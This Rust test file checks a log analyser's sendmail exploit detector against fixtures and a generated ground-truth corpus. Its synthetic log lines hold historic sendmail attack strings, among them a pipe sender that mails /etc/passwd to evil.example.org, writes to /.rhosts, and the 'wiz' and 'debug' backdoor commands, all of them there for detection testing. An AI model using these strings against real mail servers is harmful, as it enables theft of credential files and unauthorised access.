//! Tests of the sendmail detector: the per-code fixtures under
//! `tests/fixtures/sendmail/` (format in that directory's README), and a replay of the
//! generated bench corpus against its ground truth.
//!
//! Records are built with kensa-logs' syslog header parser and year resolver (times in
//! UTC+09:00, the first year-less line in 1996), files decoded with its decoder.

use super::*;
use crate::Detector;
use crate::test_support::assert_japanese;
use jiff::tz::{Offset, TimeZone};
use kensa_core::Outcome;
use kensa_logs::record::LineRef;
use kensa_logs::syslog;
use kensa_logs::year::YearResolver;
use std::borrow::Cow;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Turns lines into records the way the engine does: kensa-logs' own header parser and
/// year resolver, starting in 1996 in UTC+09:00 (the bench corpus's zone); only lines
/// that contain one of the detector's needles are handed over, each with the look-back
/// context of the lines fed before it in the same file (at most a megabyte, as the
/// scanner's chunk).
struct Clock {
    years: YearResolver,
    /// The file being fed and its text so far.
    file: String,
    text: Vec<u8>,
    /// File offset of `text[0]`.
    base: u64,
    prefilter: Option<kensa_logs::prefilter::Prefilter>,
}

impl Clock {
    fn new(year: i16) -> Clock {
        let tz = TimeZone::fixed(Offset::from_hours(9).expect("offset"));
        Clock {
            years: YearResolver::new(year, tz),
            file: String::new(),
            text: Vec::new(),
            base: 0,
            prefilter: None,
        }
    }
}

/// The scanner keeps at most this much text before a line.
const CONTEXT: usize = 1 << 20;

/// Feeds one line to a detector, as the engine would. Lines of one file must be fed in
/// order with consecutive numbers from 1 (feed comments and blank lines as empty lines);
/// the offset is the text fed so far (the `_offset` argument is not used).
fn feed(
    detector: &mut SendmailDetector,
    clock: &mut Clock,
    file: &str,
    line: u64,
    _offset: u64,
    raw: &[u8],
) {
    if clock.file != file {
        clock.file = file.to_string();
        clock.text.clear();
        clock.base = 0;
    }
    if clock.text.len() > 4 * CONTEXT {
        // Keep the buffer bounded on long feeds: drop all but the last context's worth.
        let keep_from = clock.text.len() - CONTEXT;
        let cut = memchr::memchr(b'\n', &clock.text[keep_from..])
            .map_or(keep_from, |i| keep_from + i + 1);
        clock.text.drain(..cut);
        clock.base += cut as u64;
    }
    let offset = clock.text.len();
    clock.text.extend_from_slice(raw);
    clock.text.push(b'\n');
    let needles = detector.needles();
    let prefilter = clock
        .prefilter
        .get_or_insert_with(|| kensa_logs::prefilter::Prefilter::new(needles.iter().copied()));
    if !prefilter.is_match(raw) {
        // The scanner still shows the year tracker the months go by.
        if let Some(stamp) = syslog::parse_stamp(raw) {
            clock.years.resolve(&stamp);
        }
        return;
    }
    let Some(header) = syslog::parse(raw) else {
        return;
    };
    let time = clock.years.resolve(&header.stamp);
    let window = offset.saturating_sub(CONTEXT);
    let start = match memchr::memchr(b'\n', &clock.text[window..offset]) {
        Some(i) if window > 0 => window + i + 1,
        _ => window,
    };
    let record = Record {
        at: LineRef {
            file,
            line,
            offset: clock.base + offset as u64,
            raw,
            before: &clock.text[start..offset],
            journal: None,
        },
        time,
        host: header
            .host
            .map_or(Cow::Borrowed("localhost"), String::from_utf8_lossy),
        program: header.program,
        pid: header.pid,
        message: header.message,
    };
    detector.observe(&record);
}

// ---------------------------------------------------------------------------------
// Fixtures

fn fixture_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sendmail")
}

/// Runs one fixture and checks every mark; see the fixture README for the format.
fn run_fixture(name: &str) {
    let path = fixture_dir().join(name);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    let mut marks: BTreeMap<u64, String> = BTreeMap::new();
    let mut expected_counts: BTreeMap<String, usize> = BTreeMap::new();
    for (index, line) in text.lines().enumerate() {
        let number = index as u64 + 1;
        if let Some(expect) = line.strip_prefix("# expect:") {
            feed(&mut detector, &mut clock, name, number, 0, b"");
            for pair in expect.split_whitespace() {
                let (code, count) = pair.split_once('=').expect("expect CODE=N");
                expected_counts.insert(code.to_string(), count.parse().expect("a count"));
            }
            continue;
        }
        if line.starts_with('#') || line.trim().is_empty() {
            feed(&mut detector, &mut clock, name, number, 0, b"");
            continue;
        }
        let (mark, log) = line.split_once(' ').expect("MARK line");
        assert!(
            matches!(mark, "SM001" | "SM002" | "SM003" | "SILENT" | "ANY"),
            "{name}:{number}: unknown mark {mark}"
        );
        marks.insert(number, mark.to_string());
        feed(&mut detector, &mut clock, name, number, 0, log.as_bytes());
    }
    let findings = detector.finish();
    findings.iter().for_each(assert_japanese);
    let mut reported: BTreeMap<u64, &str> = BTreeMap::new();
    for finding in &findings {
        for evidence in &finding.evidence {
            let mark = marks.get(&evidence.line).map(String::as_str).unwrap_or("?");
            assert!(
                mark == finding.code || mark == "ANY",
                "{name}:{}: reported as {} but marked {mark}: {}",
                evidence.line,
                finding.code,
                evidence.text
            );
            reported.insert(evidence.line, finding.code);
        }
    }
    for (line, mark) in &marks {
        if mark.starts_with("SM") {
            assert_eq!(
                reported.get(line).copied(),
                Some(mark.as_str()),
                "{name}:{line}: must fire {mark}"
            );
        }
    }
    for (code, count) in expected_counts {
        let got = findings.iter().filter(|f| f.code == code).count();
        assert_eq!(got, count, "{name}: number of {code} findings");
    }
}

#[test]
fn fixture_sm001_attempts() {
    run_fixture("sm001.log");
}

#[test]
fn fixture_sm002_successes() {
    run_fixture("sm002.log");
}

#[test]
fn fixture_sm003_probes() {
    run_fixture("sm003.log");
}

#[test]
fn fixture_decoys_stay_silent() {
    run_fixture("decoys.log");
}

#[test]
fn probe_titles_read_in_both_languages() {
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    let lines = [
        "Jan  3 02:14:07 mailhub sendmail[2214]: \"wiz\" command from evil.example.org [192.0.2.7] (192.0.2.7)",
        "Jan  3 02:14:08 mailhub sendmail[2214]: \"debug\" command from evil.example.org [192.0.2.7] (192.0.2.7)",
        "Jan  5 11:00:00 ws01 sendmail[3400]: AA03400: from=<c@d.example.org>, size=10, class=0, received from d.example.org (192.0.2.10)",
        "Jan  5 11:00:01 ws01 sendmail[3400]: AA03400: to=decode, delay=00:00:01, stat=Sent",
    ];
    for (i, line) in lines.iter().enumerate() {
        feed(
            &mut detector,
            &mut clock,
            "var/log/syslog",
            i as u64 + 1,
            0,
            line.as_bytes(),
        );
    }
    let findings = detector.finish();
    let titles: Vec<(&str, &str)> = findings
        .iter()
        .map(|f| (f.title.as_str(), f.title_ja.as_str()))
        .collect();
    let rule = &sm003_probe::RULE;
    let (en, ja) = (rule.title, rule.title_ja);
    assert_eq!(
        titles,
        [
            (
                format!("{en}: \"wiz\" SMTP command; \"debug\" SMTP command").as_str(),
                format!("{ja}: SMTP コマンド \"wiz\"、SMTP コマンド \"debug\"").as_str()
            ),
            (
                format!("{en}: decode alias: decode").as_str(),
                format!("{ja}: decode エイリアス: decode").as_str()
            ),
        ]
    );
}

#[test]
fn probes_saved_in_english_by_an_earlier_run_read_back() {
    // An incremental run saves each probe as its English wording (as kensa did before
    // probes had a Japanese one); reading it back gives the probe, in both languages.
    for probe in [
        Probe::DecodeAlias("decode".into()),
        Probe::UnparseableSender("|/bin/mail x@evil < /etc/passwd".into()),
        Probe::RefusedAddress("/tmp/x".into()),
        Probe::SmtpCommand("wiz".into()),
        Probe::Other("something else: x".into()),
    ] {
        let saved = serde_json::to_string(&probe).expect("saves");
        assert_eq!(
            saved,
            serde_json::to_string(&probe.text().en).expect("a string")
        );
        let back: Probe = serde_json::from_str(&saved).expect("reads back");
        assert_eq!(back, probe);
    }
    let back: Probe = serde_json::from_str("\"refused address: /tmp/x\"").expect("reads");
    assert_eq!(back.text().ja, "拒否されたアドレス: /tmp/x");
}

#[test]
fn a_finding_carries_subject_merge_key_and_evidence_in_order() {
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    let lines = [
        "Dec 31 23:59:58 mailhub sendmail[7496]: AA07496: message-id=<199612312359.AA07496@mailhub.example.ac.jp>",
        "Dec 31 23:59:59 mailhub sendmail[7496]: AA07496: from=|/bin/mail h4x@evil.example.org < /etc/passwd, size=912, class=0, pri=30912, nrcpts=1, proto=SMTP, relay=[198.51.100.237]",
        "Jan  1 00:00:00 mailhub sendmail[7496]: AA07496: to=nosuchuser, delay=00:00:01, xdelay=00:00:00, mailer=local, stat=User unknown",
        "Jan  1 00:00:00 mailhub sendmail[7496]: AA07496: AB07496: return to sender: User unknown",
        "Jan  1 00:00:01 mailhub sendmail[7496]: AB07496: to=|/bin/mail h4x@evil.example.org < /etc/passwd, delay=00:00:02, xdelay=00:00:00, mailer=prog, stat=Sent",
    ];
    for (i, line) in lines.iter().enumerate() {
        feed(
            &mut detector,
            &mut clock,
            "var/log/maillog",
            i as u64 + 1,
            i as u64 * 200,
            line.as_bytes(),
        );
    }
    let findings = detector.finish();
    assert_eq!(findings.len(), 1);
    let finding = &findings[0];
    assert_eq!(finding.code, "SM002");
    assert_eq!(
        finding.title,
        "Sendmail exploit delivered to its program or file (stat=Sent): |/bin/mail \
         h4x@evil.example.org < /etc/passwd"
    );
    assert_eq!(
        finding.title_ja,
        "sendmail の脆弱性を悪用した攻撃が成功（プログラムまたはファイルへ配送、stat=Sent）: \
         |/bin/mail h4x@evil.example.org < /etc/passwd"
    );
    assert_eq!(finding.outcome, Outcome::Succeeded);
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(finding.host, "mailhub");
    assert_eq!(finding.count, 1);
    assert_eq!(finding.merge_key, "AA07496");
    assert_eq!(finding.subject.message_id.as_deref(), Some("AA07496"));
    assert_eq!(finding.subject.source.as_deref(), Some("198.51.100.237"));
    assert_eq!(
        finding.subject.users,
        vec!["|/bin/mail h4x@evil.example.org < /etc/passwd".to_string()]
    );
    let lines: Vec<u64> = finding.evidence.iter().map(|e| e.line).collect();
    assert_eq!(lines, vec![1, 2, 3, 4, 5]);
    assert_eq!(
        finding.first_seen.map(|t| t.to_string()).as_deref(),
        Some("1996-12-31T23:59:58+09:00")
    );
    assert_eq!(
        finding.last_seen.map(|t| t.to_string()).as_deref(),
        Some("1997-01-01T00:00:01+09:00")
    );
    assert!(finding.advice.contains("(3)") && finding.advice.contains("(5)"));
}

#[test]
fn ignores_programs_that_are_not_sendmail() {
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    let line = "Dec 24 04:05:00 loghost /USR/SBIN/CRON[4242]: AA04242: to=/etc/passwd, delay=00:00:01, stat=Sent";
    feed(&mut detector, &mut clock, "f", 1, 0, line.as_bytes());
    let line = "Dec 24 04:05:00 loghost sm-notify[4242]: AA04242: to=/etc/passwd, delay=00:00:01, stat=Sent";
    feed(&mut detector, &mut clock, "f", 2, 0, line.as_bytes());
    assert!(detector.finish().is_empty());
    assert!(is_sendmail(b"/usr/lib/sendmail"));
    assert!(is_sendmail(b"sm-mta"));
    assert!(is_sendmail(b"sm-msp-queue"));
    assert!(is_sendmail(b"sm-acceptingconnections"));
    assert!(!is_sendmail(b"sm-notify"));
    assert!(!is_sendmail(b""));
}

#[test]
fn state_stays_bounded_under_a_flood() {
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    // Many ordinary messages and many malicious ones, each with a distinct queue id.
    for i in 0..(MAX_RECENT as u64 + MAX_TRACKED as u64 + 5000) {
        let line = format!(
            "Dec 24 12:{:02}:{:02} h sendmail[{}]: Q{i:08}: from=<a@b>, size=1, class=0, relay=[192.0.2.1]",
            (i / 60) % 60,
            i % 60,
            i % 30000
        );
        feed(&mut detector, &mut clock, "f", i + 1, 0, line.as_bytes());
        if i % 2 == 0 {
            let line = format!(
                "Dec 24 12:00:00 h sendmail[1]: Q{i:08}: to=/.rhosts, delay=00:00:01, stat=User unknown"
            );
            feed(&mut detector, &mut clock, "f", i + 1, 0, line.as_bytes());
        }
        assert!(detector.messages.len() <= MAX_RECENT + MAX_TRACKED);
        assert!(detector.by_qid.len() <= (MAX_RECENT + MAX_TRACKED) * MAX_QIDS_PER_MESSAGE);
        assert!(detector.by_pid.len() <= MAX_RECENT + MAX_TRACKED);
        assert!(detector.recent_order.len() <= MAX_RECENT);
        assert!(detector.tracked_order.len() <= MAX_TRACKED);
    }
    let findings = detector.finish();
    // Every malicious message is accounted for: itemised, or counted in the summary.
    let itemised = findings
        .iter()
        .filter(|f| f.merge_key != "not-itemised")
        .count() as u64;
    let summarised: u64 = findings
        .iter()
        .filter(|f| f.merge_key == "not-itemised")
        .map(|f| f.count)
        .sum();
    assert_eq!(itemised, MAX_FINDINGS as u64);
    assert_eq!(
        itemised + summarised,
        (MAX_RECENT as u64 + MAX_TRACKED as u64 + 5000).div_ceil(2)
    );
}

#[test]
fn messages_close_after_the_queue_lifetime() {
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    let first = [
        "Dec 20 10:00:00 h sendmail[100]: AA00100: from=<x@evil>, size=1, class=0, received from [192.0.2.1]",
        "Dec 20 10:00:01 h sendmail[100]: AA00100: to=/.rhosts, delay=00:00:01, stat=Deferred: Resource temporarily unavailable",
    ];
    for (i, line) in first.iter().enumerate() {
        feed(
            &mut detector,
            &mut clock,
            "f",
            i as u64 + 1,
            0,
            line.as_bytes(),
        );
    }
    // Six days later, a delivery of the same queue id with a delay that would fit is
    // past sendmail's queue lifetime: not the same message.
    let late = "Dec 26 10:00:02 h sendmail[999]: AA00100: to=/.rhosts, delay=6+00:00:02, stat=Sent";
    feed(&mut detector, &mut clock, "f", 3, 0, late.as_bytes());
    let findings = detector.finish();
    let codes: Vec<&str> = findings.iter().map(|f| f.code).collect();
    assert_eq!(codes, vec!["SM001", "SM002"]);
    assert_eq!(findings[0].evidence.len(), 2);
    assert_eq!(findings[1].evidence.len(), 1);
}

#[test]
fn never_panics_on_hostile_lines() {
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    let nasty: &[&str] = &[
        "Dec 24 12:00:00 h sendmail[1]: AA00001: to=",
        "Dec 24 12:00:00 h sendmail[1]: AA00001: from=",
        "Dec 24 12:00:00 h sendmail[1]: AA00001: AA00001: return to sender: x",
        "Dec 24 12:00:00 h sendmail[1]: AA00001: to=\"|",
        "Dec 24 12:00:00 h sendmail[1]: setsender: : invalid or unparseable, received from ",
        "Dec 24 12:00:00 h sendmail[1]: \"\" command from ",
        "Dec 24 12:00:00 h sendmail[1]: AA00001: to=/.rhosts, delay=99999999999+99:99:99, stat=Sent",
        "Dec 24 12:00:00 h sendmail: AA00001: to=/.rhosts, delay=-1, stat=Sent",
    ];
    for (i, line) in nasty.iter().enumerate() {
        feed(
            &mut detector,
            &mut clock,
            "f",
            i as u64 + 1,
            0,
            line.as_bytes(),
        );
    }
    let _ = detector.finish();
    let long = format!(
        "Dec 24 12:00:00 h sendmail[1]: AA00002: to=/.rhosts{}, delay=00:00:01, stat=Sent",
        ",x".repeat(100_000)
    );
    feed(&mut detector, &mut clock, "f", 1, 0, long.as_bytes());
    let findings = detector.finish();
    assert_eq!(findings.len(), 1);
    assert!(findings[0].evidence[0].text.len() <= MAX_LINE_BYTES);
}

// ---------------------------------------------------------------------------------
// The generated corpus against its truth

use kensa_testkit::shared_dir;

fn decompress(path: &Path) -> Vec<u8> {
    use std::io::Read;
    let mut decoded = kensa_logs::decode::open(&kensa_testkit::analyst_file(path))
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut out = Vec::new();
    decoded
        .reader
        .read_to_end(&mut out)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    out
}

/// Replays a rotation set (oldest first) into one detector.
fn replay(root: &Path, files: &[String]) -> Vec<Finding> {
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    for file in files {
        let bytes = decompress(&root.join(file));
        let mut offset = 0u64;
        for (index, line) in bytes.split(|&b| b == b'\n').enumerate() {
            feed(
                &mut detector,
                &mut clock,
                file,
                index as u64 + 1,
                offset,
                line,
            );
            offset += line.len() as u64 + 1;
        }
    }
    detector.finish()
}

/// The files of one stream, oldest rotation first.
fn rotation_set(root: &Path, log_dir: &str, stream: &str) -> Vec<String> {
    // The engine's own discovery and rotation order, not a second copy of it.
    let mut diags = Vec::new();
    let name = format!("{log_dir}/{stream}");
    kensa_logs::source::discover(&kensa_testkit::root_at(root), &mut diags)
        .into_iter()
        .find(|set| set.name == name)
        .map(|set| set.files.into_iter().map(|file| file.display).collect())
        .unwrap_or_default()
}

#[test]
fn generated_corpus_matches_truth() {
    let Some(shared) = shared_dir() else { return };
    let out = tempfile::tempdir().expect("tempdir");
    let root = out.path().join("c");
    kensa_testkit::generate_corpus(&shared, &root, &["--small"]);
    check_corpus(&root);
}

/// Checks the detector on a generated corpus: every sendmail exploit gives exactly one
/// finding, SM002 iff the truth says compromised, with the right source and queue id;
/// no decoy line is evidence of anything; and nothing else is reported.
fn check_corpus(root: &Path) {
    let truth: serde_json::Value =
        serde_json::from_slice(&std::fs::read(root.join("truth.json")).expect("truth.json"))
            .expect("json");
    let log_dir = truth["log_dir"].as_str().expect("log_dir");
    for stream in ["maillog", "syslog"] {
        let files = rotation_set(root, log_dir, stream);
        assert!(!files.is_empty(), "no {stream} files");
        let findings = replay(root, &files);
        let mut matched = vec![false; findings.len()];
        let mut exploits = 0;
        let mut unlogged = 0;
        let mut without_source = 0;
        for incident in truth["incidents"].as_array().expect("incidents") {
            let kind = incident["kind"].as_str().unwrap_or_default();
            let in_stream = |e: &serde_json::Value| {
                e["at"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .any(|at| files.iter().any(|f| at["file"] == f.as_str()))
            };
            let evidence: Vec<&serde_json::Value> = incident["evidence"]
                .as_array()
                .into_iter()
                .flatten()
                .filter(|e| in_stream(e))
                .collect();
            if evidence.is_empty() {
                continue;
            }
            // An exploit whose attack lines were never logged (variant `rcpt_*` with
            // outcome `no_stat`: only `message-id=` and an ordinary `from=` remain) leaves
            // nothing to find; truth marks the attack lines with role attempt/success.
            let logged = evidence
                .iter()
                .any(|e| e["role"] == "attempt" || e["role"] == "success");
            if kind == "sendmail_exploit" && !logged {
                unlogged += 1;
                continue;
            }
            if kind == "sendmail_exploit" {
                exploits += 1;
                let qid = incident["details"]["queue_id"].as_str().expect("queue_id");
                let host = incident["host"].as_str().expect("host");
                let position = findings
                    .iter()
                    .position(|f| f.host == host && f.subject.message_id.as_deref() == Some(qid))
                    .unwrap_or_else(|| panic!("{stream}: no finding for {}", incident["id"]));
                let finding = &findings[position];
                matched[position] = true;
                let want = if incident["verdict"] == "compromised" {
                    "SM002"
                } else {
                    "SM001"
                };
                assert_eq!(
                    finding.code, want,
                    "{stream}: {} ({})",
                    incident["id"], incident["details"]["variant"]
                );
                // The source is on the message's from= line; when that line is in the
                // previous file of the rotation (a message straddling a rotation), the
                // look-back context cannot reach it and the source stays unknown.
                match finding.subject.source.as_deref() {
                    Some(source) => assert_eq!(
                        Some(source),
                        incident["source"]["ip"].as_str(),
                        "{}",
                        incident["id"]
                    ),
                    None => {
                        without_source += 1;
                        assert!(without_source <= 1, "{}: no source", incident["id"]);
                    }
                }
                let target = incident["targets"][0].as_str().expect("target");
                assert!(
                    finding.subject.users.iter().any(|u| u == target),
                    "{}: users {:?}",
                    incident["id"],
                    finding.subject.users
                );
                // Every line of the incident in this stream is evidence of the finding —
                // but for ordinary lines after the last line with a needle when no later
                // candidate line's look-back context reaches them (the detector only sees
                // lines through candidates, as in the engine).
                let last_key = evidence
                    .iter()
                    .rposition(|e| matches!(e["role"].as_str(), Some("attempt" | "success")))
                    .unwrap_or(0);
                // Nor can context lines in an earlier file of the rotation be reached.
                let key_files: Vec<&serde_json::Value> = evidence
                    .iter()
                    .filter(|e| matches!(e["role"].as_str(), Some("attempt" | "success")))
                    .flat_map(|e| {
                        e["at"]
                            .as_array()
                            .into_iter()
                            .flatten()
                            .map(|at| &at["file"])
                    })
                    .collect();
                for (position, e) in evidence.iter().enumerate() {
                    let trailing = position > last_key && e["role"] == "info";
                    for at in e["at"].as_array().into_iter().flatten() {
                        let other_file = e["role"] == "info" && !key_files.contains(&&at["file"]);
                        if files.iter().any(|f| at["file"] == f.as_str())
                            && !trailing
                            && !other_file
                        {
                            let line = at["line"].as_u64().expect("line");
                            assert!(
                                finding
                                    .evidence
                                    .iter()
                                    .any(|x| x.file == at["file"].as_str().unwrap_or_default()
                                        && x.line == line),
                                "{}: line {} missing: {}",
                                incident["id"],
                                line,
                                e["text"]
                            );
                        }
                    }
                }
            } else if kind.starts_with("decoy_") {
                for e in &evidence {
                    for at in e["at"].as_array().into_iter().flatten() {
                        let line = at["line"].as_u64().expect("line");
                        let file = at["file"].as_str().unwrap_or_default();
                        let hit = findings
                            .iter()
                            .find(|f| f.evidence.iter().any(|x| x.file == file && x.line == line));
                        assert!(
                            hit.is_none(),
                            "{stream}: decoy {} ({kind}) reported: {}",
                            incident["id"],
                            e["text"]
                        );
                    }
                }
            }
        }
        assert!(exploits > 0, "{stream}: no sendmail exploit in the corpus");
        println!(
            "{stream}: {exploits} exploits found as the truth says, {unlogged} with no attack line logged"
        );
        let extra: Vec<_> = findings
            .iter()
            .zip(&matched)
            .filter(|(_, m)| !**m)
            .map(|(f, _)| (&f.code, &f.title))
            .collect();
        assert!(
            extra.is_empty(),
            "{stream}: findings beyond the truth: {extra:?}"
        );
    }
}

/// A bigger corpus, for manual runs: `KENSA_SM_CORPUS=/tmp/c cargo test -p kensa-detect
/// sendmail::tests::external_corpus -- --ignored`.
#[test]
#[ignore = "needs KENSA_SM_CORPUS pointing at a generated corpus"]
fn external_corpus_matches_truth() {
    let root = std::env::var_os("KENSA_SM_CORPUS").expect("KENSA_SM_CORPUS");
    check_corpus(Path::new(&root));
}

/// Every fixture line, cut at every length and with bytes flipped, through the whole
/// detector: no panic, and nothing kept beyond the caps.
#[test]
fn mutated_fixture_lines_never_panic() {
    let mut lines: Vec<Vec<u8>> = Vec::new();
    for name in ["sm001.log", "sm002.log", "sm003.log", "decoys.log"] {
        let text = std::fs::read_to_string(fixture_dir().join(name)).expect("fixture");
        for line in text
            .lines()
            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        {
            if let Some((_, log)) = line.split_once(' ') {
                lines.push(log.as_bytes().to_vec());
            }
        }
    }
    let mut detector = SendmailDetector::default();
    let mut clock = Clock::new(1996);
    // A small deterministic generator (xorshift) chooses the flips.
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let specials = [
        b'"', b'|', b'<', b'>', b',', b':', b'=', b' ', 0u8, 0xff, b'[', b']', b'(', b')', b'\\',
    ];
    let mut fed = 0u64;
    for line in &lines {
        for cut in 0..=line.len() {
            feed(&mut detector, &mut clock, "m", fed, 0, &line[..cut]);
            fed += 1;
        }
        for _ in 0..200 {
            let mut mutated = line.clone();
            for _ in 0..(1 + next() % 4) {
                let at = (next() % mutated.len().max(1) as u64) as usize;
                let byte = specials[(next() % specials.len() as u64) as usize];
                if let Some(slot) = mutated.get_mut(at) {
                    *slot = byte;
                }
            }
            feed(&mut detector, &mut clock, "m", fed, 0, &mutated);
            fed += 1;
        }
    }
    assert!(fed > 10_000);
    assert!(detector.messages.len() <= MAX_RECENT + MAX_TRACKED);
    let findings = detector.finish();
    assert!(
        findings
            .iter()
            .all(|f| f.evidence.len() <= MAX_LINES_TRACKED)
    );
}
